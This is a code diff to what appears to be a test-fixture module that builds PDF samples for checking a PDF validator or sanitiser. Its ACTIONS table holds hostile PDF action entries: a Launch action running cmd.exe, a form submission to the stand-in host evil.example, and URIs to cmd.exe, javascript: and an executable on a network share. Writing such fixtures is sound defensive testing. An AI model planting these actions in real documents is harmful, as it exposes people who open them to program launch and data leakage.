@@ -485,7 +485,9 @@ P7M_CORPUS_GAPS: list = []
 ACTIONS = {
     "JavaScript": b"<< /Type /Action /S %V% /JS (app.alert(1)) >>",
     "Launch": b"<< /Type /Action /S %V% /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
-    "URI": b"<< /S %V% /URI (http://evil.example/x) >>",
+    "URI to a program": b"<< /S %V% /URI (file:///C:/Windows/System32/cmd.exe) >>",
+    "URI to a script": b"<< /S %V% /URI (javascript:app.alert(1)) >>",
+    "URI to a share": b"<< /S %V% /URI (\\\\\\\\server\\\\share\\\\x.exe) >>",
     "SubmitForm": b"<< /S %V% /F << /FS /URL /F (http://evil.example/) >> /Flags 4 >>",
     "ImportData": b"<< /S %V% /F (dati.fdf) >>",
     "GoToR": b"<< /S %V% /F (\\\\\\\\server\\\\share\\\\altro.pdf) /D [0 /Fit] >>",
@@ -805,7 +807,8 @@ def _widget(name: bytes, rect: bytes, extra: bytes = b"") -> bytes:
 
 def linked_form() -> bytes:
     """A filled form: text fields and a checkbox, links to other pages (destination, GoTo,
-    Named), outlines, page labels, a destination on opening, and ordinary annotations."""
+    Named) and to a web page, outlines, page labels, a destination on opening, and ordinary
+    annotations."""
     annots = b"/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R 12 0 R 13 0 R 14 0 R 15 0 R 16 0 R]"
     return _pdf(
         [
@@ -828,7 +831,7 @@ def linked_form() -> bytes:
             b"<< /Type /Annot /Subtype /Link /Rect [100 580 300 600] /A << /Type /Action /S "
             b"/GoTo /D (retro) >> >>",
             b"<< /Type /Annot /Subtype /Link /Rect [100 560 300 580] /A << /S /Named /N "
-            b"/NextPage >> /H /I >>",
+            b"/NextPage >> /H /I /Next << /S /URI /URI (https://www.infocert.it/privacy) >> >>",
             b"<< /Type /Annot /Subtype /Text /Rect [20 800 40 820] /Contents (Nota) /Open false "
             b"/Popup 18 0 R >>",
             b"<< /Type /Annot /Subtype /Highlight /Rect [100 500 300 520] /QuadPoints [100 520 "
